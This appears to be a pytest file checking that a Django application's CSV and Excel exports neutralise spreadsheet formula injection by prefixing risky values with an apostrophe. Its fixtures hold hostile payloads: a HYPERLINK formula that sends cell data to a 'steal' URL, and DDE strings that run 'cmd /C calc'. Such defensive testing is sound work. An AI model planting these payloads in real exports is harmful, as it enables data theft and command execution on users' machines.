"""Formula injection: a name that starts with = + - @ (or tab / CR) comes out of every CSV and Excel
export as inert text (a leading apostrophe), while numbers — negative ones too — stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from kuangzheng.exports import inert, inert_record, inert_row

LINK = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"点击查看")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, 0, 4.25, None, True, "-12.5", "+86", "1e-3", "包头市", "a=b", ""])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert inert(value) == value


def test_rows_and_records():
    assert inert_row([LINK, -1, "x"]) == ["'" + LINK, -1, "x"]
    assert inert_record({"name": LINK, "value": -0.5}) == {"name": "'" + LINK, "value": -0.5}


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_registry_csv_export(reg):
    from kuangzheng.registry import services, transfer
    from tests.support.registry import ADMIN

    services.update(ADMIN, "right", reg.r_bt.pk, {"name": LINK, "elevation_bottom": -350}, reg.r_bt.version)
    services.update(ADMIN, "enterprise", reg.a.pk, {"address": "@SUM(1+1)"}, reg.a.version)
    rights = {r["licence_no"]: r for r in _csv(transfer.export_text(ADMIN, "right", "csv"))}
    row = rights[reg.r_bt.licence_no]
    assert row["name"] == "'" + LINK
    assert float(row["elevation_bottom"]) == -350  # a negative number is not touched
    enterprises = {r["name"]: r for r in _csv(transfer.export_text(ADMIN, "enterprise", "csv"))}
    assert enterprises[reg.a.name]["address"] == "'@SUM(1+1)"


@pytest.fixture
def hostile_sweep(reg):
    from kuangzheng.compliance import services as compliance
    from kuangzheng.registry import services
    from tests.support.registry import ADMIN

    services.update(ADMIN, "facility", reg.fac_b.pk, {"name": LINK}, reg.fac_b.version)
    return compliance.run_sweep(ADMIN, dt.date(2024, 6, 1))


def test_compliance_sweep_csv_export(hostile_sweep):
    from kuangzheng.compliance import services as compliance
    from tests.support.registry import ADMIN

    rows = _csv(compliance.export_csv(ADMIN, hostile_sweep).decode("utf-8"))
    names = {r["subject_name"] for r in rows}
    assert "'" + LINK in names and LINK not in names
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())


def test_compliance_sweep_excel_export(hostile_sweep, client):
    from kuangzheng.compliance import services as compliance
    from tests.support.registry import ADMIN

    ws = load_workbook(io.BytesIO(compliance.export_xlsx(ADMIN, hostile_sweep))).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"live formulas in the export: {formulas}"
    assert "'" + LINK in {c.value for c in cells}
    run_ids = {c.value for c in cells if c.column == 1}
    assert run_ids == {hostile_sweep.pk}  # numbers stay numbers


def test_compliance_export_over_http(hostile_sweep, client):
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.get(username="u-admin"))
    r = client.get(f"/api/v1/compliance/runs/{hostile_sweep.pk}/export?format=csv")
    assert r.status_code == 200
    assert "'" + LINK in {row["subject_name"] for row in _csv(r.content.decode("utf-8"))}
    page = client.get(f"/compliance/runs/{hostile_sweep.pk}/?export=xlsx")
    ws = load_workbook(io.BytesIO(page.content)).active
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_monitoring_indicator_csv():
    from kuangzheng.monitoring.views import indicator_csv_text

    rows = [
        {"indicator": "emissions_vs_baseline", "division": LINK, "metal": "-cmd", "value": -0.125, "note_zh": "@x"},
        {"indicator": "capacity_utilisation", "division": "150200", "metal": "al", "value": 0.91},
    ]
    out = _csv(indicator_csv_text(rows))
    assert out[0]["division"] == "'" + LINK and out[0]["metal"] == "'-cmd" and out[0]["note_zh"] == "'@x"
    assert out[0]["value"] == "-0.125" and out[1]["value"] == "0.91"


def test_monitoring_indicator_csv_over_http(db, client):
    r = client.get("/monitoring/indicators.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")


def test_policy_csv_export():
    from kuangzheng.policy import export
    from kuangzheng.policy.catalogue import load_catalogue

    entry = next(e for e in load_catalogue().entries if isinstance(e.value, (int, float)))
    hostile = dataclasses.replace(entry, description_zh=LINK, note="+1+1", value=-5)
    (row,) = _csv(export.dumps("csv", entries=[hostile]))
    assert row["description_zh"] == "'" + LINK and row["note"] == "'+1+1"
    assert row["value"] == "-5"
